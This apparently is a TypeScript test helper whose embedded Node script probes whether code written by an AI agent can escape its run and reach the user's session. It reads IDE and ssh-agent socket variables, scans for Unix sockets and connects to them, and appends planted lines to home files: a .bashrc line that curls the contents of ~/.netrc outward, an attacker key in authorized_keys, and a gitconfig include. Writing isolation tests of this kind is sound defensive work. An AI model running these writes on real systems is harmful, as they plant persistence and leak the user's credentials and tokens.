/**
 * What code the agent writes would do to reach the person's session rather than the Run: find the
 * Unix sockets in the temp folders and the runtime dir (VS Code's IPC, whose git askpass hands out
 * the person's GitHub token; an ssh-agent; the session bus) and connect to those it knows of, and write the home
 * folder for later (`~/.gitconfig`, a file a global config includes that does not exist yet,
 * `~/.bashrc`, `~/.ssh/authorized_keys`). A Node program, run as a Check or by an agent; it writes
 * what it did as JSON to `out`. Used by session-isolation.test.ts and the chaos canary (ADR 0341).
 */
export const KNOCK_SOURCE = String.raw`"use strict";
const fs = require("node:fs");
const net = require("node:net");
const path = require("node:path");
// out: where the JSON goes ("-": <git common dir>/knock-<stamp>.json, found from the worktree);
// plant: the text for the included file; then sockets the attacker knows of (from a variable it saw, say).
const [outArg, plant, ...known] = process.argv.slice(1);
const result = { looked: 0, sockets: 0, connected: 0, writes: [], tried: 0, vars: [] };
for (const v of ["VSCODE_IPC_HOOK", "VSCODE_IPC_HOOK_CLI", "VSCODE_GIT_IPC_HANDLE", "GIT_ASKPASS", "SSH_AUTH_SOCK", "DBUS_SESSION_BUS_ADDRESS"]) if (process.env[v]) result.vars.push(v);
// Connects only to the sockets it was told of (the worst case: it knows the path) or that a variable
// names; those it finds in a scan are only counted (on a shared Host they are other people's).
const found = new Set(known.filter(Boolean));
for (const v of ["VSCODE_IPC_HOOK", "VSCODE_IPC_HOOK_CLI", "VSCODE_GIT_IPC_HANDLE", "SSH_AUTH_SOCK"]) if (process.env[v]) found.add(process.env[v]);
const seen = new Set();
function scan(dir, depth) {
  let names = [];
  try { names = fs.readdirSync(dir); } catch { return; }
  for (const name of names) {
    const p = path.join(dir, name);
    result.looked += 1;
    let st;
    try { st = fs.lstatSync(p); } catch { continue; }
    if (st.isSocket()) seen.add(p);
    else if (st.isDirectory() && depth > 0) scan(p, depth - 1);
  }
}
for (const dir of ["/tmp", "/var/tmp", process.env.TMPDIR, process.env.XDG_RUNTIME_DIR, "/run/user/" + process.getuid()]) if (dir) scan(dir, 1);
for (const k of known) if (k) scan(path.dirname(k), 0);
const home = process.env.HOME;
const writes = [
  [".gitconfig", "\n[include]\n\tpath = " + home + "/.gitinc-planted\n"],
  [".gitinc", plant],
  [".bashrc", "\ncurl http://127.0.0.1:9/$(cat ~/.netrc)\n"],
  [".ssh/authorized_keys", "ssh-ed25519 AAAAplanted attacker\n"],
];
for (const [rel, text] of writes) {
  result.tried += 1;
  try {
    fs.mkdirSync(path.dirname(path.join(home, rel)), { recursive: true });
    fs.appendFileSync(path.join(home, rel), text);
    result.writes.push(rel);
  } catch {}
}
const out = outArg !== "-" ? outArg : (() => {
  const lane = process.cwd();
  const common = path.resolve(fs.readFileSync(lane + "/.git", "utf8").replace(/^gitdir: /, "").trim(), "..", "..");
  return path.join(common, "knock-" + Date.now() + "-" + Math.random().toString(36).slice(2) + ".json");
})();
result.sockets = seen.size;
let pending = found.size;
const done = () => fs.writeFileSync(out, JSON.stringify(result));
if (pending === 0) done();
for (const p of found) {
  const s = net.connect(p);
  const end = (ok) => { if (ok) result.connected += 1; s.destroy(); if (--pending === 0) done(); };
  s.once("connect", () => end(true));
  s.once("error", () => end(false));
}
`;

export interface KnockResult {
  /** Directory entries looked at in the temp folders and the runtime dir. */
  looked: number;
  /** Sockets a scan of the temp folders and the runtime dir saw (it connects only to those it was told of). */
  sockets: number;
  /** Connections a socket accepted. */
  connected: number;
  /** Home files written (relative to HOME). */
  writes: string[];
  tried: number;
  /** Session variables it saw in its environment. */
  vars: string[];
}
